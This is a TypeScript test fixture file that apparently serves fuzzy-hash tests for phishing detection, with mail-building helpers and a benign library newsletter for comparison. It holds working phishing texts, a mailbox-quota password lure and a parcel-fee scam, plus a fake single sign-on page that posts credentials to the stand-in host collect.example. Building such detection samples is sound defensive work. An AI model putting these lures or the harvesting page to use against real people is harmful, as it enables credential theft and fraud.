// Texts for the fuzzy-hash tests: a phishing campaign whose copies differ in name, numbers and link,
// and an unrelated newsletter of about the same length.

export const CAMPAIGN = `Dear {name}, your university mailbox has exceeded its storage quota of {n} MB and will be closed
within {hours} hours unless you verify your account. To keep your messages and avoid losing access to
your files, calendars and shared folders, please confirm your password at the account verification
portal below. This is the final notice from the IT helpdesk team; failure to act will result in the
permanent deletion of all stored mail, contacts and documents. We apologise for any inconvenience
and thank you for helping us keep the campus network safe and secure for everyone.
{link}
IT Service Desk`;

export const NEWSLETTER = `Hello everyone, the library will extend its opening hours during the examination period.
From Monday the reading rooms stay open until midnight, and the group study rooms can be booked
online through the usual reservation system. Please remember that food is not allowed in the
reading rooms, and that quiet zones are marked with blue signs. The café on the ground floor will
serve hot drinks until ten in the evening. We wish you every success in your exams and look forward
to seeing you in the library. Best regards, the library team`;

export function campaign(name: string, n: number, hours: number, link: string): string {
  return CAMPAIGN.replace('{name}', name).replace('{n}', String(n)).replace('{hours}', String(hours)).replace('{link}', link);
}

export function mail(subject: string, body: string, from = 'helpdesk@outside.test'): Buffer {
  return Buffer.from(`From: ${from}\r\nTo: someone@campus.test\r\nSubject: ${subject}\r\nMessage-ID: <${Math.random().toString(36).slice(2)}@outside.test>\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\n\r\n${body.replace(/\n/g, '\r\n')}\r\n`);
}


/** A multipart message with the given attachments (base64). */
export function mailWithFiles(subject: string, body: string, files: { name: string; type: string; content: Buffer }[]): Buffer {
  const b = 'b0undary';
  const parts = [
    `--${b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${body.replace(/\n/g, '\r\n')}\r\n`,
    ...files.map((f) => `--${b}\r\nContent-Type: ${f.type}; name="${f.name}"\r\nContent-Disposition: attachment; filename="${f.name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${f.content.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`),
  ];
  return Buffer.from(
    `From: helpdesk@outside.test\r\nTo: someone@campus.test\r\nSubject: ${subject}\r\nMessage-ID: <${Math.random().toString(36).slice(2)}@outside.test>\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n${parts.join('')}--${b}--\r\n`,
  );
}

/** A phishing payload of the kind sent as an attachment: a login page. */
export const LOGIN_PAGE = Buffer.from(`<html><body><form action="http://collect.example/p" method="post"><h1>Campus single sign-on</h1>${'<input name="u"><input type="password" name="p">'.repeat(8)}<button>Sign in</button></form></body></html>`);

export const PARCEL = `Hello {name}, we tried to deliver your parcel today but nobody was at home to sign for it. Your
package is now held at our local depot and will be returned to the sender in three working days.
To arrange a new delivery date, please pay the small redelivery fee of 1.99 EUR through our secure
page and choose a time that suits you. Thank you for choosing our courier service.`;

/** A message forwarded as an attachment, as a Report button or a user writing to the help desk sends it. */
export function forwardAsAttachment(note: string, inner: Buffer): Buffer {
  const b = 'fwd0';
  return Buffer.from(
    `From: user@campus.test\r\nTo: helpdesk@campus.test\r\nSubject: FW: suspicious\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n` +
      `--${b}\r\nContent-Type: text/plain\r\n\r\n${note}\r\n--${b}\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename="suspicious.eml"\r\n\r\n${inner.toString('latin1')}\r\n--${b}--\r\n`,
    'latin1',
  );
}
